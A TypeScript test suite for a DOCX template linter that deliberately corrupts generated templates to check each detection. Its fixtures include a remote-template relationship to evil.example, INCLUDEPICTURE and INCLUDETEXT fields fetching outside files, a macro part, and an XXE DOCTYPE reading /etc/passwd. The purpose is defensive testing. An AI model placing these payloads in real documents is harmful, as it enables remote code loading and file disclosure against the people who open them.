// The DOCX linter on templates built by the generator and then broken on purpose (pizzip edits the parts).
import { readFileSync, readdirSync } from 'node:fs';
import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import type { FilingDefinition, SectionDef } from '../../core/filings/index.ts';
import { FILINGS, filingById } from '../../core/filings/index.ts';
import { buildView } from '../../core/filings/index.ts';
import { withTableXml } from '../../render/docx/render-docx.ts';
import { buildDocxTemplate } from '../build/docx-template.ts';
import { lintDocxTemplate, requiredSectionIds } from './lint-docx.ts';
import { viewShape, type Shape } from './view-shape.ts';
import { scanXmlPart } from './xml-part.ts';
import { withoutPlainParagraphs } from './word-part.ts';
import type { LintProblem } from './problem.ts';

const filing = filingById('acceptance-extension')!;
const template = (def: FilingDefinition = filing) => buildDocxTemplate(def, { version: '1.0.0', title: 'test' });
const codes = (problems: LintProblem[]) => problems.map((p) => p.code);
const errors = (problems: LintProblem[]) => problems.filter((p) => p.severity === 'error');

/** The template with some parts rewritten (a function gets the old text, or null when absent) or removed. */
function edit(bytes: Uint8Array, parts: Record<string, string | ((old: string) => string) | null>): Uint8Array {
  const zip = new PizZip(bytes);
  for (const [name, change] of Object.entries(parts)) {
    if (change === null) zip.remove(name);
    else zip.file(name, typeof change === 'string' ? change : change(zip.file(name)?.asText() ?? ''));
  }
  return zip.generate({ type: 'uint8array', compression: 'DEFLATE' });
}
const editDocument = (change: (xml: string) => string, bytes = template()) => edit(bytes, { 'word/document.xml': change });

const tagP = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/** Start and end (exclusive) of the paragraphs from `{#s_<id>}` to `{/s_<id>}`. */
function sectionSpan(xml: string, id: string): [number, number] {
  const open = xml.indexOf(`{#s_${id}}`);
  const close = xml.indexOf(`{/s_${id}}`);
  const start = xml.lastIndexOf('<w:p>', open);
  const end = xml.indexOf('</w:p>', close) + '</w:p>'.length;
  return [start, end];
}
function cutSection(xml: string, id: string): { rest: string; chunk: string } {
  const [s, e] = sectionSpan(xml, id);
  return { rest: xml.slice(0, s) + xml.slice(e), chunk: xml.slice(s, e) };
}
const insertBeforeSection = (xml: string, id: string, chunk: string) => {
  const [s] = sectionSpan(xml, id);
  return xml.slice(0, s) + chunk + xml.slice(s);
};
/** Inserts paragraphs right after the paragraph that opens a section. */
const insertInSection = (xml: string, id: string, chunk: string) => {
  const at = xml.indexOf('</w:p>', xml.indexOf(`{#s_${id}}`)) + '</w:p>'.length;
  return xml.slice(0, at) + chunk + xml.slice(at);
};

describe('lintDocxTemplate: sound templates', () => {
  it('every generated template lints clean, for every filing', () => {
    for (const def of FILINGS) expect(lintDocxTemplate(template(def), { filing: def }), def.id).toEqual([]);
  });

  it('a tag Word split across several runs (with other formatting) still compiles and counts', () => {
    const split = (tag: string, pieces: string[]) => (xml: string) =>
      xml.replace(
        `<w:r><w:t xml:space="preserve">${tag}</w:t></w:r>`,
        pieces.map((p, i) => `<w:r>${i % 2 ? '<w:rPr><w:b/></w:rPr>' : ''}<w:t xml:space="preserve">${p}</w:t></w:r>`).join(''),
      );
    const bytes = editDocument((xml) => split('{#s_reasons}', ['{#s_', 're', 'asons', '}'])(split('{lead}', ['{le', 'ad', '}'])(xml)));
    const xml = new PizZip(bytes).file('word/document.xml')!.asText();
    expect(xml).toContain('<w:t xml:space="preserve">{#s_</w:t>');
    expect(lintDocxTemplate(bytes, { filing })).toEqual([]);
  });
});

describe('lintDocxTemplate: the package', () => {
  it('requires [Content_Types].xml and word/document.xml', () => {
    const p = lintDocxTemplate(edit(template(), { 'word/document.xml': null }), { filing });
    expect(p).toEqual([expect.objectContaining({ code: 'missing_part', file: 'word/document.xml', severity: 'error' })]);
  });

  it('refuses macros: vbaProject.bin and a macro-enabled content type', () => {
    const bytes = edit(template(), {
      'word/vbaProject.bin': 'not really VBA',
      '[Content_Types].xml': (ct) =>
        ct
          .replace('wordprocessingml.document.main+xml', 'wordprocessingml.document.main+xml')
          .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
          .replace('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    });
    const p = lintDocxTemplate(bytes, { filing });
    const active = p.filter((x) => x.code === 'active_content');
    expect(active.map((x) => x.file)).toEqual(expect.arrayContaining(['[Content_Types].xml', 'word/vbaProject.bin']));
    expect(active.length).toBe(3);
  });

  it('refuses ActiveX parts and embedded binaries', () => {
    const p = lintDocxTemplate(edit(template(), { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="x"/>', 'word/embeddings/oleObject1.bin': 'OLE' }), { filing });
    expect(p.filter((x) => x.code === 'active_content').map((x) => x.file)).toEqual(['word/activeX/activeX1.xml', 'word/embeddings/oleObject1.bin']);
  });

  it('refuses external relationships other than hyperlinks', () => {
    const rels = (extra: string) =>
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + extra + '</Relationships>';
    const bytes = edit(template(), {
      'word/_rels/settings.xml.rels': rels(
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
      ),
      'word/_rels/document.xml.rels': (old) =>
        old.replace(
          '</Relationships>',
          '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>' +
            '<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://127.0.0.1:9/canary.png" TargetMode="External"/></Relationships>',
        ),
    });
    const p = lintDocxTemplate(bytes, { filing });
    expect(p.map((x) => [x.code, x.file, x.tag])).toEqual([
      ['external_reference', 'word/_rels/document.xml.rels', 'http://127.0.0.1:9/canary.png'],
      ['external_reference', 'word/_rels/settings.xml.rels', 'http://evil.example/x.dotm'],
    ]);
  });

});

describe('lintDocxTemplate: outside references and XML', () => {
  it('refuses fields that fetch outside files (INCLUDETEXT, INCLUDEPICTURE…)', () => {
    const field =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const simple = '<w:p><w:fldSimple w:instr=" includetext &quot;\\\\evil\\share\\x.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>';
    const harmless =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "https://www.gov.cn/" \\o "link to the LINK page" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const p = lintDocxTemplate(editDocument((xml) => xml.replace('<w:body>', `<w:body>${field}${simple}${harmless}`)), { filing });
    expect(p.map((x) => [x.code, x.tag?.split(' ')[0]])).toEqual([
      ['external_field', 'INCLUDEPICTURE'],
      ['external_field', 'includetext'],
    ]);
  });

  it('refuses a DOCTYPE in any XML part, and does not hand that part to the XML parser', () => {
    const xxe = (old: string) => old.replace('<w:styles ', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles ');
    const p = lintDocxTemplate(edit(template(), { 'word/styles.xml': xxe }), { filing });
    expect(p.map((x) => [x.code, x.file])).toEqual([['doctype_not_allowed', 'word/styles.xml']]);
    const q = lintDocxTemplate(edit(template(), { '_rels/.rels': (old) => old.replace('<Relationships', '<!DOCTYPE r><Relationships') }), { filing });
    expect(q.map((x) => [x.code, x.file])).toEqual([['doctype_not_allowed', '_rels/.rels']]);
  });

  it('refuses XML that is not well-formed, naming the part and line', () => {
    const p = lintDocxTemplate(edit(template(), { 'word/styles.xml': (old) => old.replace('</w:styles>', '') }), { filing });
    expect(p).toEqual([expect.objectContaining({ code: 'xml_malformed', file: 'word/styles.xml' })]);
    const q = lintDocxTemplate(editDocument((xml) => xml.replace('<w:t xml:space="preserve">{lead}</w:t>', '<w:t xml:space="preserve">{lead}')), { filing });
    expect(codes(q)).toContain('xml_malformed');
    expect(q.find((x) => x.code === 'xml_malformed')!.explanation.en).toMatch(/line \d+/);
  });

  it('refuses XML nested deeper than the limit', () => {
    const deep = '<a>'.repeat(300) + '</a>'.repeat(300);
    const p = lintDocxTemplate(edit(template(), { 'customXml/item1.xml': deep }), { filing });
    expect(p.map((x) => [x.code, x.file])).toEqual([['xml_too_deep', 'customXml/item1.xml']]);
  });
});

describe('lintDocxTemplate: docxtemplater parse errors', () => {
  it('reports an unclosed tag with its tag and file, and still checks the sections', () => {
    const p = lintDocxTemplate(editDocument((xml) => insertInSection(xml, 'reasons', tagP('{unclosed'))), { filing });
    expect(p).toEqual([expect.objectContaining({ code: 'unclosed_tag', file: 'word/document.xml', severity: 'error' })]);
    expect(p[0]!.tag).toContain('unclosed');
  });

  it('reports every parse error at once, and a missing section found from the text', () => {
    const bytes = editDocument((xml) => insertInSection(cutSection(xml, 'progress').rest, 'reasons', tagP('{unclosed') + tagP('{#oops}') + tagP('stray }')));
    const p = lintDocxTemplate(bytes, { filing });
    expect(codes(p)).toEqual(expect.arrayContaining(['unclosed_tag', 'unclosed_loop', 'unopened_tag', 'section_missing']));
    expect(p.find((x) => x.code === 'section_missing')!.tag).toBe('{#s_progress}');
  });

  it('refuses deeply nested loop tags before docxtemplater parses them (its cost grows faster than linearly)', () => {
    const nested = (n: number) => editDocument((xml) => xml.replace('<w:body>', `<w:body>${tagP('{#doc.draft}').repeat(n)}${tagP('{/doc.draft}').repeat(n)}`));
    const t0 = performance.now();
    // (so repetitive an XML part is also over the 100:1 ratio; lifted here to see the depth check alone)
    expect(lintDocxTemplate(nested(5000), { filing, limits: { maxRatio: 10_000 } }).map((x) => [x.code, x.file])).toEqual([['template_too_deep', 'word/document.xml']]);
    expect(performance.now() - t0).toBeLessThan(2000);
    expect(lintDocxTemplate(nested(20), { filing })).toEqual([]);
  });
});

describe('lintDocxTemplate: sections', () => {
  it('a missing section is an error naming its wrapper', () => {
    const p = lintDocxTemplate(editDocument((xml) => cutSection(xml, 'reasons').rest), { filing });
    expect(p).toEqual([expect.objectContaining({ code: 'section_missing', tag: '{#s_reasons}', file: 'word/document.xml' })]);
  });

  it('a conditional section is still required (one template serves every input)', () => {
    const p = lintDocxTemplate(editDocument((xml) => cutSection(xml, 'attachments').rest), { filing });
    expect(p.map((x) => [x.code, x.tag])).toEqual([['section_missing', '{#s_attachments}']]);
  });

  it('a section out of registry order is an error naming only the moved one', () => {
    const bytes = editDocument((xml) => {
      const { rest, chunk } = cutSection(xml, 'reasons');
      return insertBeforeSection(rest, 'approval', chunk);
    });
    const p = lintDocxTemplate(bytes, { filing });
    expect(p.map((x) => [x.code, x.tag])).toEqual([['section_out_of_order', '{#s_reasons}']]);
  });

  it('a missing, duplicated or misplaced bookmark is an error', () => {
    const noMark = lintDocxTemplate(editDocument((xml) => xml.replace(/<w:bookmarkStart w:id="\d+" w:name="sec_reasons"\/>/, '')), { filing });
    expect(noMark.map((x) => [x.code, x.tag])).toEqual([['section_marker_missing', 'sec_reasons']]);
    const outside = lintDocxTemplate(
      editDocument((xml) => xml.replace(/<w:bookmarkStart w:id="(\d+)" w:name="sec_reasons"\/>/, '').replace('<w:body>', '<w:body><w:p><w:bookmarkStart w:id="99" w:name="sec_reasons"/><w:bookmarkEnd w:id="99"/></w:p>')),
      { filing },
    );
    expect(codes(outside)).toEqual(['section_marker_outside']);
    const twice = lintDocxTemplate(editDocument((xml) => insertInSection(xml, 'reasons', '<w:p><w:bookmarkStart w:id="98" w:name="sec_reasons"/><w:bookmarkEnd w:id="98"/></w:p>')), { filing });
    expect(codes(twice)).toEqual(['section_marker_duplicate']);
    const unknown = lintDocxTemplate(editDocument((xml) => insertInSection(xml, 'reasons', '<w:p><w:bookmarkStart w:id="97" w:name="sec_nonsense"/><w:bookmarkEnd w:id="97"/></w:p>')), { filing });
    expect(codes(unknown)).toEqual(['unknown_section_marker']);
  });

  it('a section twice is an error', () => {
    const bytes = editDocument((xml) => {
      const { chunk } = cutSection(xml, 'reasons');
      return insertBeforeSection(xml, 'remaining_work', chunk.replace(/w:name="sec_reasons"/, 'w:name="sec_reasons"'));
    });
    expect(codes(lintDocxTemplate(bytes, { filing }))).toEqual(expect.arrayContaining(['section_duplicate']));
  });

  it('requires the sections in force on the date (effectiveFrom / effectiveUntil)', () => {
    const future: SectionDef<unknown> = { id: 'future_item', level: 1, binding: 'national', citations: [], effectiveFrom: '2030-01-01' };
    const past: SectionDef<unknown> = { id: 'past_item', level: 1, binding: 'national', citations: [], effectiveUntil: '2021-12-31' };
    const sections = filing.sections as SectionDef<unknown>[];
    const def: FilingDefinition = { ...filing, sections: [...sections.slice(0, 3), past, ...sections.slice(3), future] };
    expect(requiredSectionIds(def, '2026-01-01')).toEqual(sections.map((s) => s.id));
    expect(requiredSectionIds(def, '2030-06-01')).toContain('future_item');
    expect(requiredSectionIds(def)).toEqual(def.sections.map((s) => s.id));
    const bytes = template(); // built from the original registry: neither extra section
    expect(lintDocxTemplate(bytes, { filing: def, date: '2026-01-01' })).toEqual([]);
    expect(lintDocxTemplate(bytes, { filing: def, date: '2030-06-01' }).map((x) => [x.code, x.tag])).toEqual([['section_missing', '{#s_future_item}']]);
    expect(lintDocxTemplate(bytes, { filing: def, date: '2020-06-01' }).map((x) => [x.code, x.tag])).toEqual([['section_missing', '{#s_past_item}']]);
    expect(codes(lintDocxTemplate(bytes, { filing: def }))).toEqual(['section_missing', 'section_missing']);
  });
});

describe('lintDocxTemplate: tags against the view', () => {
  it('a tag that names no field is unknown_tag, inside and outside sections', () => {
    const bytes = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{doc.titel}') + tagP('{#blocks}{colour}{/blocks}')).replace('<w:body>', `<w:body>${tagP('{heading}')}`));
    const p = lintDocxTemplate(bytes, { filing });
    expect(p.map((x) => [x.code, x.tag])).toEqual([
      ['unknown_tag', '{heading}'],
      ['unknown_tag', '{doc.titel}'],
      ['unknown_tag', '{colour}'],
    ]);
    expect(p[0]!.explanation.en).toMatch(/available here: doc, draftAppendix, order/);
  });

  it('fields of outer scopes resolve as docxtemplater resolves them; prototype names do not', () => {
    const ok = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{doc.title}{heading}{#blocks}{#p}{text}{doc.unit}{/p}{/blocks}') + tagP('{#order}{.}{/order}')));
    expect(lintDocxTemplate(ok, { filing })).toEqual([]);
    const proto = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{constructor}{doc.__proto__}{heading.length}')));
    expect(codes(lintDocxTemplate(proto, { filing }))).toEqual(['unknown_tag', 'unknown_tag', 'unknown_tag']);
  });

  it('an unknown section wrapper is an unknown tag, without a cascade inside it', () => {
    const bytes = editDocument((xml) => xml.replace('<w:body>', `<w:body>${tagP('{#s_nonsense}')}${tagP('{heading}')}${tagP('{/s_nonsense}')}`));
    expect(lintDocxTemplate(bytes, { filing }).map((x) => [x.code, x.tag])).toEqual([['unknown_tag', '{#s_nonsense}']]);
  });

  it('a raw XML tag bound to caller data is an error; {@tableXml} inside blocks is fine', () => {
    const bytes = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{@lead}') + tagP('{#blocks}') + tagP('{@p.text}') + tagP('{/blocks}')).replace('<w:body>', `<w:body>${tagP('{@doc.title}')}`));
    const p = lintDocxTemplate(bytes, { filing });
    expect(p.map((x) => [x.code, x.tag])).toEqual([
      ['raw_xml_tag', '{@doc.title}'],
      ['raw_xml_tag', '{@lead}'],
      ['raw_xml_tag', '{@p.text}'],
    ]);
    const rootTable = lintDocxTemplate(editDocument((xml) => xml.replace('<w:body>', `<w:body>${tagP('{@tableXml}')}`)), { filing });
    expect(codes(rootTable)).toEqual(['raw_xml_tag']);
  });

  it('objects, lists, XML and booleans are not values', () => {
    const bytes = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{doc}{blocks}{#blocks}{tableXml}{/blocks}{doc.bilingual}')));
    const p = lintDocxTemplate(bytes, { filing });
    expect(p.map((x) => [x.code, x.tag, x.severity])).toEqual([
      ['not_a_value', '{doc}', 'error'],
      ['not_a_value', '{blocks}', 'error'],
      ['not_a_value', '{tableXml}', 'error'],
      ['not_a_value', '{doc.bilingual}', 'warning'],
    ]);
  });

  it('a path through a value that is false for some inputs must sit inside a loop on it', () => {
    const bad = editDocument((xml) => xml.replace('<w:body>', `<w:body>${tagP('{s_reasons.heading}')}`));
    expect(lintDocxTemplate(bad, { filing }).map((x) => [x.code, x.tag])).toEqual([['unguarded_optional', '{s_reasons.heading}']]);
    const blocks = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{#blocks}{p.text}{/blocks}')));
    expect(codes(lintDocxTemplate(blocks, { filing }))).toEqual(['unguarded_optional']);
    const guarded = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{#blocks}{#p}{p.text}{/p}{/blocks}')));
    expect(lintDocxTemplate(guarded, { filing })).toEqual([]);
  });

  it('a loop nested over the same list, or over a list outside its item, is refused', () => {
    const same = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{#blocks}{#blocks}{#p}{text}{/p}{/blocks}{/blocks}')));
    expect(lintDocxTemplate(same, { filing }).map((x) => [x.code, x.tag])).toEqual([['loop_nested_same_list', '{#blocks}']]);
    const outer = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{#blocks}{#order}{.}{/order}{/blocks}')));
    expect(codes(lintDocxTemplate(outer, { filing }))).toEqual(['loop_nested_outer_list']);
    const own = editDocument((xml) => insertInSection(xml, 'reasons', tagP('{#blocks}{#table}{#rows}{#.}{.}{/.}{/rows}{/table}{/blocks}')));
    expect(lintDocxTemplate(own, { filing })).toEqual([]);
  });

  it('returns every kind of problem at once', () => {
    const bytes = edit(template(), {
      'word/vbaProject.bin': 'x',
      'word/document.xml': (xml) => insertInSection(cutSection(xml, 'progress').rest, 'reasons', tagP('{doc.titel}') + tagP('{@lead}')),
    });
    const p = errors(lintDocxTemplate(bytes, { filing }));
    expect(codes(p).sort()).toEqual(['active_content', 'raw_xml_tag', 'section_missing', 'unknown_tag']);
  });
});

describe('the view vocabulary', () => {
  /** Every value of a real view must have a place in the shape. */
  function conforms(value: unknown, shape: Shape, path: string, out: string[]): void {
    if (shape.kind === 'any') return;
    if (value === false && shape.optional) return;
    if (value === undefined && shape.optional) return;
    if (Array.isArray(value)) {
      if (shape.kind !== 'list') out.push(`${path}: list, shape ${shape.kind}`);
      else value.forEach((v, i) => conforms(v, shape.item, `${path}[${i}]`, out));
    } else if (value !== null && typeof value === 'object') {
      if (shape.kind !== 'object') out.push(`${path}: object, shape ${shape.kind}`);
      else {
        for (const [k, v] of Object.entries(value)) {
          if (k in shape.fields) conforms(v, shape.fields[k]!, `${path}.${k}`, out);
          else out.push(`${path}.${k}: not in the shape`);
        }
      }
    } else {
      const kind = typeof value === 'string' ? (/(tableXml|tableDocx|tocXml)$/.test(path) ? 'rawxml' : 'text') : typeof value === 'number' ? 'number' : 'bool';
      if (shape.kind !== kind) out.push(`${path}: ${kind}, shape ${shape.kind}`);
    }
  }

  it('covers what buildView + withTableXml really give a DOCX template', () => {
    for (const def of FILINGS) {
      const dir = `samples/${def.id}`;
      const sample = readdirSync(dir).find((f) => /^(national|district)-.*\.json$/.test(f))!;
      const input = def.schema.parse(JSON.parse(readFileSync(`${dir}/${sample}`, 'utf8')));
      const view = withTableXml(buildView(def, input, { locale: 'bilingual', templateVersion: '1.0.0', inputSha256: '0'.repeat(64) }));
      const out: string[] = [];
      conforms(view, viewShape(def, 'docx'), 'view', out);
      expect(out, def.id).toEqual([]);
    }
  });
});

describe('scanXmlPart', () => {
  it('accepts what Word writes and refuses what does not parse', () => {
    expect(scanXmlPart('<?xml version="1.0"?>\n<a x="1" y=\'2\'><!-- c --><b/>t &amp; &#x4e2d; <![CDATA[<raw>]]></a>', 10)).toEqual({ ok: true });
    for (const bad of ['<a>', '<a></b>', '<a x=1/>', '<a x="1" x="2"/>', '<a>&nbsp;</a>', '<a/><b/>', 'text<a/>', '<a x="<"/>', '', '<a><</a>', '<a><!ELEMENT x></a>']) {
      expect(scanXmlPart(bad, 10), bad).toMatchObject({ ok: false, kind: 'malformed' });
    }
    expect(scanXmlPart('<a>\n<b>\n</c></a>', 10)).toMatchObject({ ok: false, line: 3 });
    expect(scanXmlPart('<!DOCTYPE a><a/>', 10)).toMatchObject({ ok: false, kind: 'doctype' });
    expect(scanXmlPart('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', 10)).toMatchObject({ ok: false, kind: 'doctype' });
    expect(scanXmlPart('<a><a><a/></a></a>', 2)).toMatchObject({ ok: false, kind: 'too_deep' });
  });
});

describe('plain paragraphs are left out of docxtemplater’s parse, nothing else', () => {
  const body = (...ps: string[]) => `<w:document><w:body>${ps.join('')}</w:body></w:document>`;
  const spans = (xml: string): Array<[number, number]> => {
    const out: Array<[number, number]> = [];
    for (const m of xml.matchAll(/<w:p>.*?<\/w:p>/g)) out.push([m.index, m.index + m[0].length]);
    return out;
  };
  const plain = tagP('plain text');

  it('drops paragraphs without braces or bookmarks; keeps tags, bookmarks and whatever sits inside an open tag', () => {
    const xml = body(plain, tagP('{doc.title}'), plain, '<w:p><w:bookmarkStart w:id="1" w:name="sec_x"/></w:p>', plain, tagP('{doc.'), plain, tagP('unit}'), plain);
    expect(withoutPlainParagraphs(xml, spans(xml))).toBe(body(tagP('{doc.title}'), '<w:p><w:bookmarkStart w:id="1" w:name="sec_x"/></w:p>', tagP('{doc.'), plain, tagP('unit}')));
  });

  it('a long document of plain paragraphs still has every tag checked', () => {
    const filler = plain.repeat(5000);
    const bytes = editDocument((xml) => insertInSection(xml, 'reasons', filler + tagP('{@lead}') + filler + tagP('{doc.titel}') + filler).replace('<w:body>', `<w:body>${filler}`));
    // (so repetitive a part is over the 100:1 ratio; lifted here)
    expect(lintDocxTemplate(bytes, { filing, limits: { maxRatio: 10_000 } }).map((x) => [x.code, x.tag])).toEqual([
      ['raw_xml_tag', '{@lead}'],
      ['unknown_tag', '{doc.titel}'],
    ]);
  });
});
